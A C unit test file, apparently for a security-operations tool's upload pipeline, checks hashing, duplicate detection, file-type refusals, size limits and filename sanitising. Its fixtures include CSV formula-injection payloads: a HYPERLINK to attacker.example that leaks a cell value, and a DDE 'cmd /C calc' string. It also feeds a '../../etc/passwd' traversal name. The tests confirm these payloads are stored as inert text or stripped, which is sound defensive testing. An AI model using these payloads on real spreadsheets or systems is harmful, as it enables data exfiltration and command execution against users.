#include "socc_test.h"

#include "core/sha256.h"
#include "ingest/pipeline.h"

struct fx {
    char dir[256];
    struct store *st;
    struct config cfg;
};

static int setup(void **state)
{
    struct fx *f = calloc(1, sizeof(*f));
    struct socc_error e;

    st_tmpdir(f->dir, sizeof(f->dir));
    assert_int_equal(store_open(f->dir, &f->st, &e), SOCC_OK);
    config_defaults(&f->cfg);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    struct fx *f = *state;

    store_close(f->st);
    st_rmtree(f->dir);
    free(f);
    return 0;
}

/* Run the pipeline on bytes named name for company. */
static enum socc_err run(struct fx *f, const char *company, const char *name,
                         const void *p, size_t n, struct pipeline_output *out,
                         struct socc_error *e)
{
    static int k;
    struct pipeline_input in;
    char tmp[512], tname[32];
    struct stat sb;
    enum socc_err rc;

    snprintf(tname, sizeof(tname), "in-%d", ++k);
    st_write_file(store_tmp_dir(f->st), tname, p, n, tmp, sizeof(tmp));
    memset(&in, 0, sizeof(in));
    in.company = company;
    in.tool_type = "siem";
    in.filename = name;
    in.req_id = "test";
    in.path = tmp;
    in.size = n;
    rc = pipeline_run(f->st, &f->cfg, &in, out, e);
    /* the pipeline always takes the temp file */
    assert_int_not_equal(stat(tmp, &sb), 0);
    return rc;
}

/* Run on a file of ../shared; returns -1 when shared is absent. */
static int run_shared(struct fx *f, const char *rel, const char *name,
                      struct pipeline_output *out, struct socc_error *e)
{
    const char *shared = st_shared();
    char path[4300], *data;
    FILE *fp;
    long n;
    int rc;

    if (!shared)
        return -1;
    snprintf(path, sizeof(path), "%s/%s", shared, rel);
    fp = fopen(path, "rb");
    assert_non_null(fp);
    fseek(fp, 0, SEEK_END);
    n = ftell(fp);
    fseek(fp, 0, SEEK_SET);
    data = malloc((size_t)n + 1);
    assert_int_equal(fread(data, 1, (size_t)n, fp), (size_t)n);
    fclose(fp);
    rc = (int)run(f, "acme", name, data, (size_t)n, out, e);
    free(data);
    return rc;
}

static const char csv[] = "host,severity\nweb-01,High\ndb-02,Low\n";

static void stores_csv_and_blob(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;
    char blob[512], hex[65], want[65];

    assert_int_equal(run(f, "acme", "alerts.CSV", csv, sizeof(csv) - 1, &out,
                         &e), SOCC_OK);
    assert_int_equal(out.upload.record_count, 2);
    assert_string_equal(out.upload.file_type, "csv");
    assert_string_equal(out.upload.filename, "alerts.CSV");
    assert_int_equal(out.upload.size, sizeof(csv) - 1);
    sha256_hex(csv, sizeof(csv) - 1, want);
    assert_string_equal(out.upload.file_hash, want);
    store_blob_path(f->st, want, blob, sizeof(blob));
    assert_int_equal(sha256_file_hex(blob, hex), 0);
    assert_string_equal(hex, want);
}

static void duplicate_names_the_first(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;
    int64_t first;

    assert_int_equal(run(f, "acme", "a.csv", csv, sizeof(csv) - 1, &out, &e),
                     SOCC_OK);
    first = out.upload.id;
    assert_int_equal(run(f, "acme", "b.csv", csv, sizeof(csv) - 1, &out, &e),
                     SOCC_E_DUPLICATE_FILE);
    assert_string_equal(out.stage, "checking_duplicates");
    assert_int_equal(out.existing.id, first);
    assert_string_equal(out.existing.filename, "a.csv");
    assert_int_equal(out.existing.record_count, 2);
    /* another company holds its own copy */
    assert_int_equal(run(f, "globex", "a.csv", csv, sizeof(csv) - 1, &out,
                         &e), SOCC_OK);
    assert_int_not_equal(out.upload.id, first);
}

static void refusals(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;
    static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01";
    static const char html[] = "<html><table><tr><td>1</td></tr></table>";

    assert_int_equal(run(f, "acme", "x.txt", csv, sizeof(csv) - 1, &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
    assert_non_null(strstr(out.hint, ".txt"));
    assert_int_equal(run(f, "acme", "x.csv", png, sizeof(png) - 1, &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
    assert_non_null(strstr(out.hint, "PNG image"));
    assert_int_equal(run(f, "acme", "x.xls", html, sizeof(html) - 1, &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
    assert_non_null(strstr(out.hint, "HTML document"));
    assert_int_equal(run(f, "acme", "x.xlsx", csv, sizeof(csv) - 1, &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
    assert_non_null(strstr(out.hint, "plain text"));
    assert_int_equal(run(f, "acme", "x.csv", "", 0, &out, &e),
                     SOCC_E_EMPTY_FILE);
    assert_int_equal(run(f, "acme", "x.csv", " \n\t\n", 4, &out, &e),
                     SOCC_E_EMPTY_FILE);
    assert_string_equal(out.stage, "validating");
    assert_int_equal(run(f, "acme", "noext", csv, sizeof(csv) - 1, &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
}

static void header_only_is_zero_records(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;

    assert_int_equal(run(f, "acme", "h.csv", "a,b,c\n", 6, &out, &e),
                     SOCC_OK);
    assert_int_equal(out.upload.record_count, 0);
    assert_non_null(strstr(out.upload.warnings, "no data rows"));
}

static void field_limit_is_limit_exceeded(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;
    char *big = malloc(300);

    memcpy(big, "a\n", 2);
    memset(big + 2, 'x', 297);
    big[299] = '\n';
    f->cfg.csv_max_field = 100;
    assert_int_equal(run(f, "acme", "big.csv", big, 300, &out, &e),
                     SOCC_E_LIMIT_EXCEEDED);
    assert_string_equal(out.stage, "processing");
    assert_true(strlen(e.detail) > 0);
    free(big);
    /* nothing half-stored: the same bytes go in once the limit allows */
}

static void corpus_spreadsheet_paths(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;

    if (run_shared(f, "cases/020-wrong-extension/firewall_export.xls",
                   "firewall_export.xls", &out, &e) < 0) {
        printf("SKIP: ../shared not found (set SOCC_SHARED)\n");
        skip();
    }
    /* case 020: an XLSX named .xls is read as XLSX with a warning */
    assert_int_equal(out.upload.record_count, 2);
    assert_string_equal(out.upload.file_type, "xlsx");
    assert_non_null(strstr(out.upload.warnings, "read as xlsx"));
    assert_int_equal(run_shared(f, "cases/020-wrong-extension/"
                                "html_table_export.xls", "h.xls", &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
    assert_int_equal(run_shared(f, "cases/007-encrypted-xlsx/"
                                "password_protected.xlsx", "p.xlsx", &out,
                                &e), SOCC_E_ENCRYPTED_FILE);
    assert_int_equal(run_shared(f, "cases/030-truncated-corrupt-xlsx/"
                                "truncated.xlsx", "t.xlsx", &out, &e),
                     SOCC_E_CORRUPTED_FILE);
    /* an XLSX named .csv is refused: a .csv name needs text */
    assert_int_equal(run_shared(f, "cases/020-wrong-extension/"
                                "firewall_export.xls", "f.csv", &out, &e),
                     SOCC_E_INVALID_FILE_TYPE);
}

/* Case 010: formula-like text is stored as text, the delta as numbers. */
static void case_010_formula_text(void **state)
{
    struct fx *f = *state;
    struct pipeline_output out;
    struct socc_error e;
    struct buf b;

    if (run_shared(f, "cases/010-csv-formula-injection/alerts_export.csv",
                   "alerts_export.csv", &out, &e) < 0) {
        printf("SKIP: ../shared not found (set SOCC_SHARED)\n");
        skip();
    }
    assert_int_equal(out.upload.record_count, 4);
    buf_init(&b);
    assert_int_equal(store_records_json(f->st, out.upload.id, -1, 10, 0, &b,
                                        &e), SOCC_OK);
    assert_non_null(strstr(b.data, "{\"id\":1,\"user\":\"=HYPERLINK(\\\""
                                   "http://attacker.example/?x=\\\"&A1,\\\""
                                   "click\\\")\",\"comment\":\"ok\","
                                   "\"delta\":-5}"));
    assert_non_null(strstr(b.data, "{\"id\":2,\"user\":\"+SUM(1+1)*cmd|' "
                                   "/C calc'!A0\",\"comment\":\"=1+2\","
                                   "\"delta\":7}"));
    assert_non_null(strstr(b.data, "{\"id\":3,\"user\":\"@SUM(A1:A2)\","
                                   "\"comment\":\"-2+3\",\"delta\":-0.5}"));
    assert_non_null(strstr(b.data, "{\"id\":4,\"user\":\"\\t=1+1\","
                                   "\"comment\":\"normal text\","
                                   "\"delta\":12}"));
    buf_release(&b);
}

static void safe_names(void **state)
{
    static const struct {
        const char *in, *out;
    } v[] = {
        { "report.csv", "report.csv" },
        { "../../etc/passwd", "passwd" },
        { "C:\\Users\\me\\x.xlsx", "x.xlsx" },
        { "a\x01\x1f" "b.csv", "ab.csv" },
        { "..", "upload" },
        { "", "upload" },
        { "dir/", "upload" },
        { "bad\xff.csv", "bad\xef\xbf\xbd.csv" },
        { "R\xc3\xa9sum\xc3\xa9.csv", "R\xc3\xa9sum\xc3\xa9.csv" },
        { "x.csv. . ", "x.csv" },
    };
    char out[300], longname[600];
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
        pipeline_safe_name(v[i].in, strlen(v[i].in), out, sizeof(out));
        assert_string_equal(out, v[i].out);
    }
    pipeline_safe_name("a\0b.csv", 7, out, sizeof(out));
    assert_string_equal(out, "ab.csv");
    memset(longname, 'n', sizeof(longname));
    pipeline_safe_name(longname, sizeof(longname), out, sizeof(out));
    assert_int_equal(strlen(out), 255);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(stores_csv_and_blob, setup, teardown),
        cmocka_unit_test_setup_teardown(duplicate_names_the_first, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(refusals, setup, teardown),
        cmocka_unit_test_setup_teardown(header_only_is_zero_records, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(field_limit_is_limit_exceeded, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(corpus_spreadsheet_paths, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(case_010_formula_text, setup,
                                        teardown),
        cmocka_unit_test(safe_names),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
